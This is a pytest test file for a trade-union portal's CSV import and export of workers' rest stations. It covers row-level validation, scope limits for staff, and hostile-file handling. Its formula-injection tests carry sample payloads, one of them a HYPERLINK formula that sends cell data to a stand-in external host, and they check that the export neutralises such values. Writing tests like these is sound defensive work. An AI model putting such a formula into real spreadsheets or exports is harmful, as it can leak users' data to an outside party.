"""CSV import: row-numbered errors, all-or-nothing unless asked, re-imports update, Excel's BOM."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from portal.accounts.models import User
from portal.extensions import db
from portal.stations import importer, services
from portal.stations.models import Station
from tests.helpers import login_as, page_text, post_form

HEADER = "name,address,lat,lng,amenities,open_hours,union_code"
GOOD = [
    "通天街职工驿站,香坊区通天街1号,45.7120,126.6680,water;charging;toilet,24h,",
    "建设银行香坊支行劳动者港湾,香坊区香坊大街2号,45.7010,126.6590,water;aircon,Mon-Fri 08:30-17:30,CA1",
    "邮政和平路营业所,香坊区和平路3号,45.7200,126.6500,,22:00-06:00,GA1",
]


def csv_text(*rows, header=HEADER, bom=False):
    return ("\ufeff" if bom else "") + "\n".join([header, *rows]) + "\n"


def _count(app):
    with app.app_context():
        return db.session.scalar(select(func.count(Station.id)))


def test_good_file_with_excel_bom_imports_every_row(app, tree):
    with app.app_context():
        report = importer.import_stations(csv_text(*GOOD, bom=True).encode("utf-8"))
        db.session.commit()
        assert (report.created, report.updated, report.error_count) == (3, 0, 0)
        station = db.session.scalars(select(Station).where(Station.name == "邮政和平路营业所")).one()
        assert station.union.code == "GA1" and station.open_hours == "22:00-06:00"
        first = db.session.scalars(select(Station).where(Station.name == "通天街职工驿站")).one()
        assert first.union.code == "N"  # empty union_code from the command line: the root
        assert first.amenities == ["water", "charging", "toilet"]


@pytest.mark.parametrize(
    "row, reason",
    [
        (",香坊区1号,45.7,126.6,,24h,", "名称"),
        ("名字,,45.7,126.6,,24h,", "地址"),
        ("名字,地址,north,126.6,,24h,", "纬度"),
        ("名字,地址,95,126.6,,24h,", "纬度"),
        ("名字,地址,45.7,nan,,24h,", "经度"),
        ("名字,地址,45.7,126.6,water;pool,24h,", "pool"),
        ("名字,地址,45.7,126.6,,8am-8pm,", "营业时间"),
        ("名字,地址,45.7,126.6,,24h,NOPE", "NOPE"),
    ],
)
def test_bad_rows_are_reported_by_row_number_and_nothing_is_imported(app, tree, row, reason):
    with app.app_context():
        report = importer.import_stations(csv_text(GOOD[0], row, GOOD[1]))
        assert not report.imported and report.error_count == 1
        ((number, message),) = report.errors
        assert number == 3  # the header is row 1
        assert reason in message
    assert _count(app) == 0


def test_valid_rows_only_imports_the_good_ones(app, tree):
    with app.app_context():
        report = importer.import_stations(csv_text(GOOD[0], "坏,,1,1,,24h,", GOOD[1]), valid_rows_only=True)
        db.session.commit()
        assert report.imported and report.created == 2 and report.error_count == 1
    assert _count(app) == 2


def test_importing_the_same_file_again_updates_instead_of_duplicating(app, tree):
    with app.app_context():
        importer.import_stations(csv_text(*GOOD))
        db.session.commit()
        changed = GOOD[0].replace("24h", "07:00-22:00")
        report = importer.import_stations(csv_text(changed, *GOOD[1:]))
        db.session.commit()
        assert (report.created, report.updated) == (0, 3)
        assert (
            db.session.scalars(select(Station.open_hours).where(Station.name == "通天街职工驿站")).one()
            == "07:00-22:00"
        )
    assert _count(app) == 3


def test_external_id_matches_even_when_name_and_address_change(app, tree):
    header = HEADER + ",external_id"
    with app.app_context():
        importer.import_stations(csv_text(GOOD[0] + ",HRB-001", header=header))
        db.session.commit()
        report = importer.import_stations(
            csv_text("通天街职工驿站（新址）,香坊区通天街9号,45.71,126.67,,24h,,HRB-001", header=header)
        )
        db.session.commit()
        assert (report.created, report.updated) == (0, 1)
        assert db.session.scalars(select(Station.address)).one() == "香坊区通天街9号"


def test_the_same_station_twice_in_one_file_is_an_error(app, tree):
    with app.app_context():
        report = importer.import_stations(csv_text(GOOD[0], GOOD[0]))
        assert report.errors == [(3, "与第2行是同一个驿站。")]


@pytest.mark.parametrize(
    "data, message",
    [
        ("name,address\n驿站,地址\n".encode(), "缺少"),
        ("名称,地址\n".encode("gbk"), "UTF-8"),
    ],
)
def test_a_wrong_file_is_explained(app, tree, data, message):
    from portal.core.validators import InvalidInput

    with app.app_context():
        with pytest.raises(InvalidInput) as exc:
            importer.import_stations(data)
        assert message in str(exc.value.message)


def test_staff_import_into_their_own_union_and_not_outside_their_scope(app, tree, make_user):
    staff = make_user("staff", union=tree["county_a1"])
    with app.app_context():
        actor = db.session.get(User, staff.id)
        report = importer.import_stations(csv_text(GOOD[0], "外面的驿站,通河县1号,45.99,128.74,,24h,GA2"), actor=actor)
        assert not report.imported
        assert report.errors[0][0] == 3 and "GA2" in report.errors[0][1]
        report = importer.import_stations(csv_text(GOOD[0]), actor=actor)
        db.session.commit()
        assert db.session.scalars(select(Station)).one().union.code == "CA1"


def test_cli_import_shows_progress_and_fails_on_errors(app, tree, tmp_path):
    good, bad = tmp_path / "good.csv", tmp_path / "bad.csv"
    good.write_text(csv_text(*GOOD, bom=True), encoding="utf-8")
    bad.write_text(csv_text(GOOD[0], "坏,,1,1,,24h,"), encoding="utf-8")
    runner = app.test_cli_runner()
    result = runner.invoke(args=["stations", "import", str(good)])
    assert result.exit_code == 0, result.output
    assert "checked 3 rows" in result.output and "Imported 3 new" in result.output
    result = runner.invoke(args=["stations", "import", str(bad)])
    assert result.exit_code == 1 and "row 3" in result.output and "Nothing imported" in result.output
    result = runner.invoke(args=["stations", "import", str(bad), "--valid-rows-only"])
    assert result.exit_code == 0 and "updated 1" in result.output
    out = tmp_path / "out.csv"
    assert runner.invoke(args=["stations", "export", str(out)]).exit_code == 0
    assert out.read_bytes().startswith("\ufeff".encode())


def test_staff_page_import_and_export_round_trip(app, client, tree, make_user):
    login_as(client, make_user("staff", union=tree["county_a1"]))
    data = csv_text(*GOOD[1:], bom=True).encode("utf-8")
    r = post_form(
        client,
        "/staff/stations/import",
        {"file": (io.BytesIO(data), "stations.csv")},
        content_type="multipart/form-data",
    )
    assert r.status_code == 200 and "新增2个" in page_text(r)
    with client.get("/staff/stations/export.csv") as export:
        body = export.data
        assert export.mimetype == "text/csv" and body.startswith("\ufeff".encode())
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0] == "name,address,lat,lng,amenities,open_hours,union_code,external_id,phone"
    assert "建设银行香坊支行劳动者港湾" in text and "GA1" in text
    r = post_form(
        client, "/staff/stations/import", {"file": (io.BytesIO(body), "export.csv")}, content_type="multipart/form-data"
    )
    assert "新增0个，更新2个" in page_text(r)


def test_staff_page_shows_row_errors_and_imports_nothing(app, client, tree, make_user):
    login_as(client, make_user("staff", union=tree["county_a1"]))
    data = csv_text(GOOD[1], "坏,,1,1,,24h,").encode()
    r = post_form(
        client, "/staff/stations/import", {"file": (io.BytesIO(data), "s.csv")}, content_type="multipart/form-data"
    )
    html = page_text(r)
    assert r.status_code == 422 and "没有导入" in html and "<td>3</td>" in html
    assert _count(app) == 0
    with app.app_context():
        assert services.export_csv(None).count("\n") == 1  # only the header


# --- Scope: a re-import matches only stations the importer manages (issue 7, S1) -------------


@pytest.fixture
def sibling_world(app, make_union, make_user, add_stations, tree):
    """Grassroots staff of union N and a sibling district whose union id is N followed by "1"
    (ids 5 and 51, say): a subtree test done with a string prefix would confuse the two."""
    mine = tree["grassroots_a1b"]
    county = make_union("SIB-C", level="county", parent=tree["city_a"], name="道里区总工会")
    filler = 0
    while True:
        filler += 1
        union = make_union(f"SIB-F{filler}", parent=county)
        if union.id == int(f"{mine.id}1"):
            break
    other = union  # its id starts with mine.id, its path with a different county
    (theirs,) = add_stations([(45.7557, 126.6169, ("water",), "24h")], union="city_a")
    with app.app_context():
        station = db.session.get(Station, theirs)
        station.union_id, station.name, station.address = other.id, "道里区中央大街职工驿站", "道里区中央大街1号"
        station.external_id = "DL-001"
        db.session.commit()
    return {"staff": make_user("staff", union=mine), "mine": mine, "other": other, "theirs": theirs}


def _station_row(station_id):
    with db.session.no_autoflush:
        s = db.session.get(Station, station_id)
        db.session.refresh(s)
        return (s.union_id, s.lat, s.lng, s.open_hours, s.name, s.address)


def test_grassroots_staff_cannot_take_over_a_sibling_districts_station_by_name_and_address(app, sibling_world):
    with app.app_context():
        before = _station_row(sibling_world["theirs"])
        actor = db.session.get(User, sibling_world["staff"].id)
        row = "道里区中央大街职工驿站,道里区中央大街1号,45.7000,126.7000,,08:00-09:00,"
        report = importer.import_stations(csv_text(row), actor=actor)
        db.session.commit()
        # Nothing in their scope matches: it is a new station of their own union.
        assert (report.created, report.updated) == (1, 0)
        assert _station_row(sibling_world["theirs"]) == before
        new = db.session.scalars(select(Station).where(Station.union_id == sibling_world["mine"].id)).one()
        assert (new.name, new.open_hours) == ("道里区中央大街职工驿站", "08:00-09:00")


def test_an_external_id_of_a_station_outside_scope_is_a_row_error_not_a_takeover(app, sibling_world):
    header = HEADER + ",external_id"
    with app.app_context():
        before = _station_row(sibling_world["theirs"])
        actor = db.session.get(User, sibling_world["staff"].id)
        report = importer.import_stations(
            csv_text(GOOD[0] + ",MINE-1", "新名字,新地址,45.7,126.7,,24h,,DL-001", header=header), actor=actor
        )
        assert not report.imported and report.errors[0][0] == 3 and "DL-001" in report.errors[0][1]
        report = importer.import_stations(
            csv_text(GOOD[0] + ",MINE-1", "新名字,新地址,45.7,126.7,,24h,,DL-001", header=header),
            actor=actor,
            valid_rows_only=True,
        )
        db.session.commit()
        assert (report.created, report.updated) == (1, 0)
        assert _station_row(sibling_world["theirs"]) == before


def test_staff_page_import_reports_a_new_station_for_an_outside_match(app, client, sibling_world):
    login_as(client, sibling_world["staff"])
    data = "\n".join([HEADER, "道里区中央大街职工驿站,道里区中央大街1号,45.7,126.7,,24h,"]).encode()
    r = post_form(
        client, "/staff/stations/import", {"file": (io.BytesIO(data), "s.csv")}, content_type="multipart/form-data"
    )
    assert "新增1个，更新0个" in page_text(r)
    with app.app_context():
        assert db.session.get(Station, sibling_world["theirs"]).union_id == sibling_world["other"].id


def test_command_line_import_still_matches_everywhere(app, sibling_world):
    with app.app_context():
        row = "道里区中央大街职工驿站,道里区中央大街1号,45.7557,126.6169,,07:00-22:00,"
        report = importer.import_stations(csv_text(row))
        db.session.commit()
        assert (report.created, report.updated) == (0, 1)
        station = db.session.get(Station, sibling_world["theirs"])
        # An empty union_code on an update keeps the station's union.
        assert station.open_hours == "07:00-22:00" and station.union_id == sibling_world["other"].id


# --- Hostile files: a clear message, never a 500 (issue 7, S6) ---------------------------------


def _upload(client, data: bytes):
    return post_form(
        client, "/staff/stations/import", {"file": (io.BytesIO(data), "s.csv")}, content_type="multipart/form-data"
    )


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "文件是空的"),
        (b"\xef\xbb\xbf", "文件是空的"),
        (b"\n\n", "文件是空的"),
        ("名称,地址\n".encode("gbk"), "UTF-8"),
        (b"\xff\xfe\x00n\x00a", "UTF-8"),
        (b"name;address;lat\n", "缺少"),
    ],
)
def test_staff_page_explains_an_unusable_file(client, tree, make_user, data, message):
    login_as(client, make_user("staff", union=tree["county_a1"]))
    r = _upload(client, data)
    assert r.status_code == 422 and message in page_text(r)


@pytest.mark.parametrize(
    "row, reason",
    [
        ("驿站\x00,地址,45.7,126.6,,24h,", "空字符"),
        ("驿站,地址\x00,45.7,126.6,,24h,", "空字符"),
        ('驿站,"' + "长" * 140_000 + '",45.7,126.6,,24h,', "太长"),
    ],
)
def test_a_nul_byte_or_an_overlong_field_is_a_row_error(app, client, tree, make_user, row, reason):
    login_as(client, make_user("staff", union=tree["county_a1"]))
    r = _upload(client, csv_text(GOOD[1], row, GOOD[2]).encode())
    html = page_text(r)
    assert r.status_code == 422 and "<td>3</td>" in html and reason in html
    r = post_form(
        client,
        "/staff/stations/import",
        {"file": (io.BytesIO(csv_text(GOOD[1], row, GOOD[2]).encode()), "s.csv"), "valid_rows_only": "y"},
        content_type="multipart/form-data",
    )
    assert r.status_code == 200 and "新增2个" in page_text(r)
    assert _count(app) == 2


# --- Formula injection: the export is safe and re-imports unchanged (issue 7, S7) ---------------

FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1", "-2", "@SUM(A1)"]


def test_export_neutralises_formulas_and_a_reimport_keeps_the_names_as_typed(app, client, tree, make_user):
    login_as(client, make_user("staff", union=tree["county_a1"]))
    rows = [
        f'"{n.replace(chr(34), chr(34) * 2)}",香坊区{i}号,45.70,126.6{i},,24h,,X-{i}'
        for i, n in enumerate(FORMULA_NAMES)
    ]
    data = csv_text(*rows, header=HEADER + ",external_id").encode()
    assert "新增4个" in page_text(_upload(client, data))
    for _round in range(2):  # export → import → export: nothing grows
        with client.get("/staff/stations/export.csv") as export:
            body = export.data
            assert "attachment" in export.headers["Content-Disposition"]
        cells = [row for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))][1:]
        for row in cells:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), row
        assert sorted(row[0] for row in cells) == sorted("'" + n for n in FORMULA_NAMES)
        assert "新增0个，更新4个" in page_text(_upload(client, body))
    with app.app_context():
        assert sorted(db.session.scalars(select(Station.name))) == sorted(FORMULA_NAMES)
        # Negative coordinates are neutralised on the way out too, and read back as numbers.
        assert all(126 < lng < 127 for lng in db.session.scalars(select(Station.lng)))


def test_a_leading_apostrophe_that_guards_nothing_is_kept(app, tree):
    with app.app_context():
        importer.import_stations(csv_text("'老站',香坊区1号,45.7,126.6,,24h,"))
        db.session.commit()
        assert db.session.scalars(select(Station.name)).one() == "'老站'"
